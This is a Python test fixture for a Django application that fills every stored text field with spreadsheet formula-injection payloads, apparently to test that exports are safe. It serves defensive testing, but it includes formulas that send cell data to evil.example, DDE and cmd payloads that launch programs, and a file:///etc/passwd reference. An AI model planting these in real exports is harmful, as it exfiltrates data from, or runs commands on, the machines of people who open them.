"""
Texts that a spreadsheet could take for a formula: 300 and more, as data, and how they get into every stored text.

They are what people typed into real systems to run something on the machine of whoever opens the export.
"""

import json
from contextlib import suppress
from itertools import count, cycle

from django.db import IntegrityError, connection, models, transaction

from assessments.models import Seal, Snapshot
from partnership import append_only
from tests.stored_fields import stored_models

BODIES = (
    "1+1",
    "SUM(1,2)*3",
    "A1",
    "NOW()",
    'HYPERLINK("http://evil.example/?x="&A1,"Click here")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example/?x="&A1,"//a")',
    'FILTERXML("<a>1</a>","//a")',
    "cmd|' /C calc'!A0",
    'DDE("cmd","/C calc","A0")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "'file:///etc/passwd'#$passwd.A1",
    'IF(TRUE,"evaluated","")',
)
STARTS = (
    *("=", "+", "-", "@"),
    *("==", "=-", "+=", "-+=", "@="),
    *("\t=", "\r=", "\n=", "\r\n=", "\x0b="),
    *(" =", "   +", "\u00a0=", "\u3000@", "\u200b=", "\ufeff=", "\u202e="),
    *('"=', "'=", "''+", '"" -'),
    # Full-width and other signs that look like the usual ones.
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe62", "\ufe66"),
    # A new cell for who takes another separator than the comma.
    *("words;=", "words\t=", "words|@", 'words";=', "words,=", "words\n="),
)
PAYLOADS = tuple(f"{start}{body}" for start in STARTS for body in BODIES)

# Texts that are no words of people's: codes by which rows find each other, and hashes.
NOT_WORDS = {
    *("code", "statement_code", "gate", "pathway", "digest", "sha256", "media_type", "fingerprint", "author_mark")
}
# What a document says in people's words, or in a framework's.
WORDS_OF_DOCUMENT = {
    *("statement", "account", "rationale", "text", "title", "name", "owner", "owner_name", "url", "file_name", "note"),
    *("locator", "sentence", "summary", "meaning", "reason", "purpose", "chair", "held_at", "partnership", "board"),
    *("role", "organisation", "remedy", "value", "threshold", "tier", "form_words", "answers_to", "sector", "class"),
    *("words", "minute_reference", "missing", "parties", "round"),
}


class Filling:
    """Hands out payloads, each marked so that no two are the same; `given` are those of each stored field."""

    def __init__(self):
        self.payloads, self.numbers, self.given = cycle(PAYLOADS), count(1), {}

    def next(self, longest=None):
        mark = f" #{next(self.numbers)}"
        return next(self.payloads)[: longest and longest - len(mark)] + mark

    def rows(self):
        """Write payloads into every text that is stored, sealed ones too, past the guards of what stays as it is."""
        append_only.lift(connection)
        try:
            for model in stored_models():
                for field in texts_of(model):
                    self._rows(model, field)
            for model in (Snapshot, Seal):
                for row in model.objects.all():
                    text = json.dumps(self.document(json.loads(row.text)))
                    model.objects.filter(pk=row.pk).update(text=text)
        finally:
            append_only.install(connection)

    def _rows(self, model, field):
        given = self.given.setdefault(f"{model.__name__}.{field.name}", set())
        for key in model._base_manager.values_list("pk", flat=True):
            text = self.next(field.max_length)
            # Where a row cannot hold a text, such as an account of what no checklist asks, it stays without.
            with suppress(IntegrityError), transaction.atomic():
                model._base_manager.filter(pk=key).update(**{field.name: text})
                given.add(text)

    def document(self, data, name=""):
        """Return a document with payloads in place of all its words."""
        if isinstance(data, dict):
            return {key: self.document(value, key) for key, value in data.items()}
        if isinstance(data, list):
            return [self.document(value, name) for value in data]
        return self.next() if isinstance(data, str) and data and name in WORDS_OF_DOCUMENT else data


def texts_of(model):
    """Return the fields of a model that hold words of people's."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in NOT_WORDS
        and not (field.name == "text" and model.__name__ in {"Snapshot", "Seal", "Decision"})
    ]
